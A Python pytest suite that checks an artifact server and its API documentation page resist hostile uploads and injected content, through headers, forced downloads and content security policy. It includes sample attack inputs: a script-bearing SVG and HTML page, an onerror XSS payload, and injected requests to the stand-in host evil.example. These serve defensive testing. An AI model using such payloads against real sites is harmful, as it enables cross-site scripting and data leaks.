"""Attacks: what a stranger's page, file or program tries on an installation, and what comes of it."""
import io
import os
import re
import wave
from types import SimpleNamespace

import av
import numpy as np
import pytest
from browser import BROWSER, FLAGS
from farm import wait_for
from PIL import Image

SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><rect width="90" height="90" fill="red"/>
<script>document.documentElement.setAttribute("owned", "yes"); fetch("/jobs")</script></svg>"""
PAGE = b"<html><body>hello<script>document.title = 'owned'</script></body></html>"


def picture(kind: str) -> bytes:
    f = io.BytesIO()
    Image.new("RGB", (48, 48), "green").save(f, kind)
    return f.getvalue()


def video(kind: str) -> bytes:
    "A second of video, 64 x 64."
    f = io.BytesIO()
    with av.open(f, "w", format=kind) as o:
        s = o.add_stream("libx264" if kind == "mp4" else "libvpx", rate=10, width=64, height=64, pix_fmt="yuv420p")
        for i in range(10): o.mux(s.encode(av.VideoFrame.from_ndarray(np.full((64, 64, 3), 20 * i, np.uint8))))
        o.mux(s.encode())
    return f.getvalue()


def sound(kind: str) -> bytes:
    "A second of silence."
    f = io.BytesIO()
    if kind == "wav":
        with wave.open(f, "wb") as w:
            w.setnchannels(1)
            w.setsampwidth(2)
            w.setframerate(48000)
            w.writeframes(bytes(96000))
        return f.getvalue()
    with av.open(f, "w", format=kind, options=dict(write_xing="0", id3v2_version="0") if kind == "mp3" else {}) as o:
        s = o.add_stream("libmp3lame" if kind == "mp3" else "libopus", rate=48000, layout="mono")
        frame = av.AudioFrame.from_ndarray(np.zeros((1, 48000), np.float32), format="fltp", layout="mono")
        frame.sample_rate = 48000
        resampler = av.AudioResampler(format=s.format, layout="mono", rate=48000, frame_size=s.frame_size or 1152)
        for part in (*resampler.resample(frame), *resampler.resample(None)): o.mux(s.encode(part))
        o.mux(s.encode())
    return f.getvalue()


SHOWN = {
    "image/png": lambda: picture("PNG"), "image/jpeg": lambda: picture("JPEG"), "image/gif": lambda: picture("GIF"),
    "image/webp": lambda: picture("WEBP"), "image/avif": lambda: picture("AVIF"), "video/mp4": lambda: video("mp4"),
    "video/webm": lambda: video("webm"), "audio/wav": lambda: sound("wav"), "audio/mpeg": lambda: sound("mp3"),
    "audio/ogg": lambda: sound("ogg"),
}
NOT_SHOWN = {
    "svg": SVG, "svg after a space": b" \n" + SVG, "page": PAGE,
    "xhtml": b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>",
    "xml with a style sheet": b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#'?><a/>",
    "mhtml": b"MIME-Version: 1.0\nContent-Type: multipart/related", "almost a picture": b"\x89PNG\r\n" + PAGE,
    "pdf": b"%PDF-1.7\n1 0 obj", "script": b"alert(1)", "text": b"hello", "zip": b"PK\x03\x04" + bytes(40),
    "tiff": b"II*\0" + bytes(40), "nothing known": bytes(range(200, 250)),
}
NAMES = ("", "x.svg", "x.html", "x.png", "x.mp4", "x.xhtml", "x.js", "x.PNG")
TYPES = ("", "image/svg+xml", "image/SVG+xml", "IMAGE/PNG", "image/png", "text/html", "video/mp4", "image/png; charset=x", "video")


def put(api: SimpleNamespace, content: bytes, name: str = "file") -> str:
    "Upload a file; its address."
    got = api.http.post("/artifacts", params=dict(name=name), content=content).raise_for_status().json()
    return f"/artifacts/{got['sha256']}"


CLOSED = {"sandbox", "default-src 'none'"}
PLAYED = {"sandbox allow-same-origin", "default-src 'none'", "media-src 'self'"}  # no script either; a player loads its file again


def closed(headers: dict[str, str], rules: set[str] = CLOSED) -> bool:
    "Are the headers there that make a file harmless in a browser?"
    others = headers["x-content-type-options"], headers["cross-origin-resource-policy"]
    return {o.strip() for o in headers["content-security-policy"].split(";")} == rules and others == ("nosniff", "same-site")


# --- files that strangers upload

@pytest.mark.parametrize("kind", SHOWN)
def test_picture_sound_and_video_are_shown_by_their_content(api: SimpleNamespace, kind: str) -> None:
    at, rules = put(api, SHOWN[kind]()), CLOSED if kind.startswith("image") else PLAYED
    for name in NAMES:
        got = api.http.get(at, params=dict(name=name))
        assert (got.status_code, got.headers["content-type"]) == (200, kind) and closed(got.headers, rules), name
        assert got.headers["content-disposition"].startswith("inline"), name
    part = api.http.get(at, headers=dict(Range="bytes=2-5"))
    assert part.status_code == 206 and closed(part.headers, rules)


@pytest.mark.parametrize("what", NOT_SHOWN)
def test_anything_else_is_a_download_whatever_it_is_called(api: SimpleNamespace, what: str) -> None:
    for name in NAMES:
        at = put(api, NOT_SHOWN[what], name or "file")
        for kind in TYPES:
            got = api.http.get(at, params=dict(name=name, media_type=kind))
            assert got.status_code == 200 and closed(got.headers), (name, kind)
            assert got.headers["content-disposition"].startswith("attachment"), (name, kind)


if BROWSER or os.environ.get("CI"):
    def test_uploaded_svg_and_page_run_nothing_in_a_browser(api: SimpleNamespace) -> None:
        from playwright.sync_api import Error, sync_playwright
        asked: list[str] = []
        with sync_playwright() as p, p.chromium.launch(executable_path=BROWSER, args=[*FLAGS]) as browser:
            page = browser.new_page()
            page.goto(f"{api.http.base_url}/health?token={api.token}")
            page.on("request", lambda r: asked.append(r.url))
            for content in (SVG, PAGE):
                for query in ("?media_type=image/SVG%2Bxml", "?name=x.svg", "?name=x.html"):
                    with pytest.raises(Error, match="Download is starting"):
                        page.goto(f"{api.http.base_url}{put(api, content)}{query}")
            with api.http.stream("GET", put(api, SVG)) as r: headers = r.headers
            # the same answer without "attachment": the sandbox alone must hold
            page.route("**/artifacts/*", lambda route: route.fulfill(
                status=200, body=SVG, headers=dict(headers) | {"content-disposition": "inline", "content-type": "image/svg+xml"}))
            page.goto(f"{api.http.base_url}{put(api, SVG)}")
            page.wait_for_load_state("networkidle")
            assert page.evaluate("document.documentElement.getAttribute('owned')") is None
        assert not [a for a in asked if re.search("/jobs$", a)]

    def test_picture_sound_and_video_are_seen_and_heard_in_a_browser(api: SimpleNamespace) -> None:
        from playwright.sync_api import sync_playwright
        ready = """e => e.tagName == 'IMG' ? e.complete && e.naturalWidth == 48
            : e.readyState >= 1 && Math.abs(e.duration - 1) < 0.1"""
        seen = []
        with sync_playwright() as p, p.chromium.launch(executable_path=BROWSER, args=[*FLAGS]) as browser:
            page = browser.new_page()
            page.goto(f"{api.http.base_url}/health?token={api.token}")
            for kind, make in SHOWN.items():
                page.goto(f"{api.http.base_url}{put(api, make())}")
                wait_for(f"{kind} is there", lambda: page.evaluate(f"({ready})(document.querySelector('img, video, audio'))"), 20)
                seen.append(kind)
        assert seen == [*SHOWN]


# --- the documentation of the API

def test_documentation_is_closed_and_comes_from_this_server(api: SimpleNamespace) -> None:
    page = api.http.get("/docs")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    parts = re.findall(r'(?:src|href)="([^"]+)"', page.text)
    assert parts and not [o for o in parts if re.match("(?i)[a-z]+:|//|/", o)], parts
    assert not re.search(r"(?i)<script(?![^>]*src=)|<style|\son\w+=|\sstyle=", page.text), page.text
    kinds = dict(js="text/javascript", css="text/css", png="image/png")
    for got, kind in ((page, "text/html"), *((api.http.get(f"/{o}"), kinds[o.rpartition(".")[2]]) for o in parts)):
        rules = dict(o.strip().partition(" ")[::2] for o in got.headers["content-security-policy"].split(";"))
        assert rules == {"default-src": "'none'", "script-src": "'self'", "style-src": "'self'", "img-src": "'self' data:",
                         "connect-src": "'self'", "frame-ancestors": "'none'", "base-uri": "'none'", "form-action": "'none'"}
        assert (got.status_code, got.headers["content-type"].split(";")[0]) == (200, kind) and got.content
        assert (got.headers["x-content-type-options"], got.headers["x-frame-options"]) == ("nosniff", "DENY")
    for path in ("/redoc", "/docs/oauth2-redirect", "/docs/..%2fapi.py", "/docs/__init__.py", "/docs/%00"):
        assert api.http.get(path).status_code == 404, path


if BROWSER or os.environ.get("CI"):
    def test_documentation_works_in_a_browser_without_internet(api: SimpleNamespace) -> None:
        from playwright.sync_api import expect, sync_playwright
        asked, said = [], []
        with sync_playwright() as p, p.chromium.launch(executable_path=BROWSER, args=[*FLAGS]) as browser:
            page = browser.new_page(viewport=dict(width=1200, height=1100))
            page.on("request", lambda r: asked.append(r.url))
            page.on("console", lambda m: said.append(m.text))
            page.on("pageerror", lambda e: said.append(str(e)))
            page.goto(f"{api.http.base_url}/docs?token={api.token}")
            page.goto(f"{api.http.base_url}/docs?url=http://evil.example/openapi.json&configUrl=http://evil.example/c.json")
            operation = page.locator("#operations-about-get_pipelines_pipelines_get")
            expect(operation).to_contain_text("/pipelines", timeout=20_000)
            assert page.locator(".opblock").count() == sum(len(o) for o in api.http.get("/openapi.json").json()["paths"].values())
            operation.locator("button.opblock-summary-control").click()
            operation.get_by_text("Try it out").click()
            operation.get_by_text("Execute", exact=True).click()
            answer = operation.locator(".live-responses-table")
            expect(answer.locator(".response-col_status").last).to_contain_text("200")
            expect(answer).to_contain_text('"branches"')
            for closed in page.locator(".opblock:not(.is-open) button.opblock-summary-control").all()[::-1]: closed.click()
            for closed in page.locator(".models button[aria-expanded=false]").all(): closed.click()
            assert page.locator(".opblock.is-open").count() == page.locator(".opblock").count()
            assert said == [] and not [a for a in asked if not a.startswith((api.ws.replace("ws", "http"), "data:"))], asked
            # what a hole in the page would let a stranger do
            page.evaluate("""() => {
                window.refused = []
                document.addEventListener('securitypolicyviolation', e => refused.push(`${e.effectiveDirective} ${e.blockedURI}`))
                const add = (name, set) => document.body.appendChild(Object.assign(document.createElement(name), set))
                add('script', {textContent: 'window.owned = 1'})
                add('script', {src: 'data:text/javascript,window.owned = 2'})
                add('div', {innerHTML: '<img src=x onerror="window.owned = 3">'})
                add('style', {textContent: 'body { display: none }'})
                add('img', {src: 'http://evil.example/leak'})
                add('iframe', {src: 'http://evil.example/frame'})
                add('base', {href: 'http://evil.example/'})
                add('form', {action: 'http://evil.example/form', method: 'post'}).submit()
                fetch('http://evil.example/fetch').catch(() => {})
            }""")
            wait_for("nine are refused", lambda: page.evaluate("refused.length") >= 9)  # not by the page: its rules forbid `eval`
            refused = {o.split()[0] for o in page.evaluate("refused")}
            assert refused == {"script-src-elem", "script-src-attr", "style-src-elem", "img-src", "frame-src", "base-uri",
                               "form-action", "connect-src"}
            assert page.evaluate("window.owned") is None and page.url.startswith(str(api.http.base_url))
